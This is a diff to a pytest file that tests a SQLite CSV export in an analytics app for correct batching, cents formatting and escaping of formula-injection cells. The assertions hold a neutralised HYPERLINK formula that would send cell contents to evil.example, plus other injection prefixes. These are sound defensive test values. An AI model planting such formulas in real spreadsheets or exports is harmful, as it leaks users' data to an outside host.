@@ -1,5 +1,7 @@
-"""The CSV export's fast path writes the text of the plain flattened records, on SQLite and PostgreSQL."""
+"""The CSV export on SQLite (columns converted a batch at a time) writes the text of the plain flattened records."""
 
+import csv
+import io
 from datetime import datetime
 from decimal import Decimal
 from zoneinfo import ZoneInfo
@@ -7,10 +9,11 @@ from zoneinfo import ZoneInfo
 import pytest
 from sqlalchemy import select, update
 
-from floqast.analytics import csv_text
+from floqast.analytics import csv_sqlite
 from floqast.analytics.filters import Filters
 from floqast.analytics.generate import Profile, generate
 from floqast.analytics.models import ChecklistItem, Entity, Reconciliation
+from floqast.analytics.money import money_text
 from floqast.analytics.records import DATASETS
 from floqast.extensions import db
 from floqast.keys.models import ANALYTICS_SERVICES, Service
@@ -47,23 +50,41 @@ def odd_books(team):
     db.session.commit()
 
 
-@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
-def test_the_fast_csv_rows_are_the_plain_flattened_records(app, team, odd_books, service):
-    dataset = DATASETS[service]
-    with db.engine.connect() as connection:
-        if connection.dialect.name == "postgresql":  # a server whose zone is not UTC sends moments in its own
-            connection.exec_driver_sql("SET LOCAL TIME ZONE 'Asia/Kolkata'")
-        fast = connection.execute(csv_text.query(dataset, team.id, Filters(), team.today()))
-        fast_rows = list(csv_text.rows(dataset, fast))
-        plain_rows = connection.execute(dataset.query(team.id, Filters(), team.today()))
-        plain = [dataset.flat_record(row) for row in plain_rows]
-    as_text = [["" if value is None else str(value) for value in row] for row in fast_rows]  # as csv.writer writes
+@pytest.fixture
+def sqlite(app):
+    if db.engine.dialect.name != "sqlite":
+        pytest.skip("SQLite's export: on PostgreSQL the database writes every cell (test_csv_copy)")
 
-    assert len(as_text) == len(plain) > len(HOSTILE)
-    assert as_text == [list(row.values()) for row in plain]
-    cells = {value for row in as_text for value in row}
+
+def sqlite_rows(dataset, team) -> list[list[str]]:
+    """The SQLite export's records, parsed back from its CSV text."""
+    statement = csv_sqlite.query(dataset, team.id, Filters(), team.today())
+    text = "".join(csv_sqlite.written(db.engine, statement, dataset))
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("batch_rows", [1000, 4])  # hostile text in every batch, and in some batches only
+@pytest.mark.parametrize("service", ANALYTICS_SERVICES)
+def test_the_sqlite_csv_rows_are_the_plain_flattened_records(sqlite, team, odd_books, service, batch_rows,
+                                                              monkeypatch):
+    monkeypatch.setattr(csv_sqlite.csv_copy, "RECORDS_PER_CHUNK", batch_rows)
+    dataset = DATASETS[service]
+    written = sqlite_rows(dataset, team)
+    with db.engine.connect() as connection:
+        plain = [dataset.flat_record(row) for row in connection.execute(dataset.query(team.id, Filters(),
+                                                                                      team.today()))]
+
+    assert len(written) == len(plain) > len(HOSTILE)
+    assert written == [list(row.values()) for row in plain]
+    cells = {value for row in written for value in row}
     assert {"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'-5", "'@x", "'\tx", "''=quoted", "''",
             "'@North", ""} <= cells
     assert {"ok;'=1+1", "a;'\"=2", "line\n'@x", "a\r'@x", "a\r\n'-1;b", "a;;''"} <= cells
     assert ("-1234.50" in cells and "-0.05" in cells) if service is Service.RECONCILIATIONS else ("'@x;ok;'@x" in cells)
     assert "2025-03-31T18:15:06Z" in cells and not any(cell.endswith(".123456Z") for cell in cells)  # whole seconds
+
+
+@pytest.mark.parametrize("cents", [0, 5, -5, 99, -100, 123450, -123450, 10**15 - 1, -(10**15 - 1), 10**15, -(10**15),
+                                   999_999_999_999_999_999, -999_999_999_999_999_999, 4_503_599_627_370_497])
+def test_cents_are_written_as_the_api_writes_the_amount(cents):
+    assert csv_sqlite.cents_text(cents) == money_text(Decimal(cents).scaleb(-2))
